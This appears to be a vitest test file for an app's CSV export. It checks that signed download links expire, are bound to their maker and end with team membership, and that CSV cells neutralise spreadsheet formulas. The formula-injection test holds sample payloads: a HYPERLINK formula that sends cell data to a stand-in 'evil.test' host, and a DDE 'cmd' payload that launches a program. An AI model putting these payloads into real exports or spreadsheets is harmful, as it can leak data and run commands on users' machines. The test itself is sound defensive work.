import { randomUUID } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { LINK_TTL_SECONDS, signature } from '../../server/export/sign';
import { parseCsv } from '../e2e/csv';
import { addOrders, person, useServerSuite } from './fixtures';

/**
 * Export links as closed doors (issue 21): a link is signed for the person who made it and lives five
 * minutes; at download the server checks the signature, the expiry and that its maker is still a
 * member of the export's team. The CSV neutralises every cell a spreadsheet would run as a formula.
 */
const s = useServerSuite();

const get = (url: string, token?: string) => s.req('GET', url, token);

async function exportLink(token: string, teamId = s.w.home.id, filters = '') {
  const res = await get(`/api/v1/orders/export/csv?teamId=${teamId}${filters}`, token);
  expect(res.statusCode).toBe(200);
  const url = new URL(res.json().presignedUrl, 'http://x');
  return {
    url: `${url.pathname}${url.search}`,
    id: decodeURIComponent(url.pathname.split('/')[4]),
    expires: Number(url.searchParams.get('expires')),
    sig: url.searchParams.get('signature')!,
  };
}
const linkTo = (id: string, expires: number, sig: string) =>
  `/api/v1/exports/${encodeURIComponent(id)}/download?expires=${expires}&signature=${sig}`;

function expectRefused(res: Awaited<ReturnType<typeof get>>, message: string | RegExp) {
  expect(res.statusCode).toBe(403);
  expect(res.headers['content-type']).toContain('application/json');
  expect(res.json()).toEqual({ error: 'FORBIDDEN', message: expect.stringMatching(message) });
}

describe('export links', () => {
  it('live five minutes', async () => {
    const link = await exportLink(s.w.member.token);
    expect(LINK_TTL_SECONDS).toBe(300);
    const left = link.expires - Date.now() / 1000;
    expect(left).toBeGreaterThan(290);
    expect(left).toBeLessThanOrEqual(300);
    expect((await get(link.url)).statusCode).toBe(200);
  });

  it('are refused once expired, even when correctly signed for their maker', async () => {
    const link = await exportLink(s.w.member.token);
    const past = Math.floor(Date.now() / 1000) - 1;
    const sig = signature(s.t.config.tokenSecret, { id: link.id, expires: past, userId: s.w.member.id });
    expectRefused(await get(linkTo(link.id, past, sig)), /expired/);
  });

  it("made by A are unusable as B's: a signature is good for its maker's export only", async () => {
    const a = await exportLink(s.w.member.token);
    const b = await exportLink(s.w.editor.token);
    // A's signature and expiry on B's export
    expectRefused(await get(linkTo(b.id, a.expires, a.sig)), /Invalid download link/);
    // A's export with a signature made for B (what a link of A's export "as B's" would carry)
    const asB = signature(s.t.config.tokenSecret, { id: a.id, expires: a.expires, userId: s.w.editor.id });
    expectRefused(await get(linkTo(a.id, a.expires, asB)), /Invalid download link/);
    // the old form of signature (export and expiry only) no longer opens anything
    const { createHmac } = await import('node:crypto');
    const unbound = createHmac('sha256', s.t.config.tokenSecret).update(`${a.id}.${a.expires}`).digest('hex');
    expectRefused(await get(linkTo(a.id, a.expires, unbound)), /Invalid download link/);
    // an export that does not exist answers like a forged link
    expectRefused(await get(linkTo(randomUUID(), a.expires, a.sig)), /Invalid download link/);
    // each link, as made, works
    expect((await get(a.url)).statusCode).toBe(200);
    expect((await get(b.url)).statusCode).toBe(200);
  });

  it('of a member removed from the team are refused; the others still work', async () => {
    const leaver = await person(s.t.db, s.t.config, 'leaver', randomUUID().slice(0, 8));
    await s.t.db.query("INSERT INTO memberships (user_id, team_id, role) VALUES ($1, $2, 'MEMBER')", [
      leaver.id,
      s.w.home.id,
    ]);
    const theirs = await exportLink(leaver.token);
    const stays = await exportLink(s.w.member.token);
    expect((await get(theirs.url)).statusCode).toBe(200);

    await s.t.db.query('DELETE FROM memberships WHERE user_id = $1 AND team_id = $2', [leaver.id, s.w.home.id]);
    expectRefused(await get(theirs.url), /no longer a member/);
    expect((await get(stays.url)).statusCode).toBe(200);
    // and they cannot make a new one
    expect((await get(`/api/v1/orders/export/csv?teamId=${s.w.home.id}`, leaver.token)).statusCode).toBe(403);
  });
});

describe('CSV cells', () => {
  it('neutralise formulas (=, +, -, @, tab, carriage return first) with a single quote; numbers stay numbers', async () => {
    const start = new Date('2038-02-01T00:00:00Z');
    const ids = await addOrders(s.t.db, s.w.home.id, { count: 8, productId: s.w.product, start });
    const names = [
      '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")',
      '+1+1',
      '-2+3',
      '@SUM(1,2)',
      '\t=1+1',
      '\r=1+1',
      'Anna = Safe - Name',
      'Plain Customer',
    ];
    for (const [i, id] of ids.entries()) {
      await s.t.db.query('UPDATE orders SET customer_name = $2, customer_email = $3 WHERE id = $1', [
        id,
        names[i],
        i === 0 ? '=cmd|"/c calc"!A1@evil.test' : `c${i}@example.test`,
      ]);
    }
    const link = await exportLink(s.w.member.token, s.w.home.id, '&startDate=2038-02-01&endDate=2038-02-01');
    const file = await get(link.url);
    expect(file.statusCode).toBe(200);
    const [header, ...rows] = parseCsv(file.body.trim());
    const col = (name: string) => header.indexOf(name);
    const byName = new Map(rows.map((r) => [r[col('Customer')].replace(/^'/, ''), r]));
    expect(rows).toHaveLength(8);

    const cell = (name: string, column: string) => byName.get(name)![col(column)];
    expect(cell(names[0], 'Customer')).toBe(`'${names[0]}`);
    expect(cell(names[0], 'Email')).toBe(`'=cmd|"/c calc"!A1@evil.test`);
    for (const name of names.slice(1, 6)) expect(cell(name, 'Customer')).toBe(`'${name}`);
    // text that merely contains such characters is left alone
    expect(cell('Anna = Safe - Name', 'Customer')).toBe('Anna = Safe - Name');
    expect(cell('Plain Customer', 'Customer')).toBe('Plain Customer');
    // numbers are written as numbers, never quoted
    expect(cell('Plain Customer', 'Total')).toBe('2');
    expect(cell('Plain Customer', 'Adults')).toBe('2');
    expect(file.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});
